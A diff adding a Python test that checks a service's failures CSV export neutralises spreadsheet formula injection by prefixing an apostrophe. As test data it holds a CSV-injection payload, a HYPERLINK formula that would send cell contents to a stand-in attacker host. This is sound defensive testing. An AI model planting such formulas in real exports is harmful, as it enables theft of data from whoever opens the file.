@@ -176,6 +176,27 @@ async def test_a_blocked_user_is_skipped_not_retried(
     assert "user_blocked" in service.status_message(st).plain
 
 
+async def test_the_failures_csv_gives_a_spreadsheet_no_formula_to_run(
+    loaded: Core, port: HttpPort, platform: RateLimitedPlatform, clock: FakeClock
+) -> None:
+    """Text in the failures CSV that a spreadsheet would run as a formula (an error's words, an
+    email address from an HR file) is written as text, behind an apostrophe (OWASP, CSV
+    injection); the rest of the row is as stored."""
+    platform.blocked.add("U-practitioner3@northbridge.example")
+    bid = await publish(loaded)
+    await send_until_settled(loaded, Sender(loaded, limiter=Limiter(FAST)), clock)
+    async with loaded.db.session() as s:
+        await s.execute(update(Delivery).where(Delivery.broadcast_id == bid,
+                                               Delivery.state == "skipped")
+                        .values(error='=HYPERLINK("https://evil.example/?"&A1)'))
+        await s.execute(update(Person).where(Person.email == "practitioner3@northbridge.example")
+                        .values(email="@practitioner3@northbridge.example"))
+        await s.commit()
+    rows = [line.split(",", 5) for line in (await service.failures_csv(loaded, bid)).splitlines()]
+    assert rows[1][1] == "'@practitioner3@northbridge.example" and rows[1][3] == "skipped"
+    assert rows[1][5] == '"\'=HYPERLINK(""https://evil.example/?""&A1)"'
+
+
 async def test_an_outage_is_retried_with_backoff_then_given_up_with_a_reason(
     loaded: Core, port: HttpPort, platform: RateLimitedPlatform, clock: FakeClock
 ) -> None:
